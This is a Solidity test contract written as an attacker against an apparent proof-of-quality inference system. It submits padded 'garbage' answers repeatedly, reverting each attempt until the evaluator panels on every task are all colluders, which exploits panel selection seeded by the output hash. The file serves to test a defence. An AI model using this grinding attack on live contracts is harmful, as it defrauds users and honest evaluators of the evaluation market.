// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {IProofOfQuality} from "../IProofOfQuality.sol";

/// @notice Test attacker: an inference node that grinds its output to pick its panel. Each attempt
///         submits a variant of its answers (trailing spaces) and reverts unless every evaluator on
///         its tasks is a colluder; the loop retries variants inside one transaction. Against the old
///         contract (panel seeded by the output hash) it captured 3 of 3 tasks.
contract GrindingNode {
    IProofOfQuality public immutable poq;
    address[] public colluders;

    error NotCaptured(uint256 variant);

    constructor(IProofOfQuality target, address[] memory colluders_) {
        poq = target;
        colluders = colluders_;
    }

    function register(string calldata model) external payable {
        poq.register{value: msg.value}(1, model);
    }

    /// @return captured whether some variant landed with an all-colluder panel on every task
    /// @return tries the attempts made
    function grind(uint256 batchId, uint256[] calldata taskIds, uint256 variants)
        external
        returns (bool captured, uint256 tries)
    {
        for (uint256 v; v < variants; ++v) {
            try this.attempt(batchId, taskIds, v) {
                return (true, v + 1);
            } catch {}
        }
        return (false, variants);
    }

    function attempt(uint256 batchId, uint256[] calldata taskIds, uint256 variant) external {
        require(msg.sender == address(this), "self only");
        string[] memory outputs = new string[](taskIds.length);
        bytes memory padding = new bytes(variant);
        for (uint256 i; i < variant; ++i) {
            padding[i] = " ";
        }
        for (uint256 i; i < taskIds.length; ++i) {
            outputs[i] = string(abi.encodePacked("garbage", padding));
        }
        poq.submitAnswers(batchId, outputs);
        for (uint256 i; i < taskIds.length; ++i) {
            address[] memory panel = poq.getTask(taskIds[i]).evaluators;
            for (uint256 j; j < panel.length; ++j) {
                if (!_isColluder(panel[j])) revert NotCaptured(variant);
            }
        }
    }

    function _isColluder(address who) private view returns (bool) {
        for (uint256 i; i < colluders.length; ++i) {
            if (colluders[i] == who) return true;
        }
        return false;
    }
}
